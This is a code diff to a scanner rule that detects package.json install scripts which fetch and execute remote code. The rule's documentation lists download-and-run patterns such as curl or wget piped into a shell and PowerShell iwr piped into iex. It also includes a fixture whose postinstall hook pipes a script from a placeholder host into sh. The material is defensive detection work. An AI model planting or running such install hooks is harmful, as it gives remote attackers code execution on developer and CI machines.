@@ -80,6 +80,7 @@ export const check = defineRiskCheck({
   id: 'install-script-download',
   title: 'Package script downloads and runs remote code',
   severity: 'HIGH',
+  confidence: 0.85,
   severityNote: 'HIGH for install-time scripts that download and execute; MEDIUM for install-time scripts that only download; LOW for other scripts that download and execute',
   description: 'A package.json script fetches code from the network and executes it (`curl … | sh` and similar).',
   remediation:
@@ -89,12 +90,12 @@ export const check = defineRiskCheck({
   docs: {
     summary:
       'Reads the `scripts` of the repository\'s own package.json files. Lifecycle scripts (`preinstall`, `install`, `postinstall`, `prepare`, `prepublish`, `prepack` …) run automatically on every install, on every developer machine and CI runner, and for git dependencies on the consumer\'s machine too. A script that pipes a download into a shell (`curl … | sh`, `wget -O- | bash`, `bash <(curl …)`), evaluates fetched code (`node -e "…https…"`, PowerShell `iwr … | iex`), runs a remote package (`npx github:…`) or downloads a file and then executes it, hands code execution to whoever controls that URL. Other scripts doing the same are reported LOW; install-time scripts that only download are MEDIUM.',
-    vulnerable: {
+    bad: [{
       'package.json': '{\n  "name": "native-bridge",\n  "scripts": {\n    "postinstall": "curl -fsSL https://get.example.com/bridge.sh | sh",\n    "build": "tsc"\n  }\n}\n',
-    },
-    safe: {
+    }],
+    good: [{
       'package.json': '{\n  "name": "native-bridge",\n  "scripts": {\n    "postinstall": "node scripts/link-binary.js",\n    "build": "tsc"\n  }\n}\n',
-    },
+    }],
   },
   run: detect,
 });
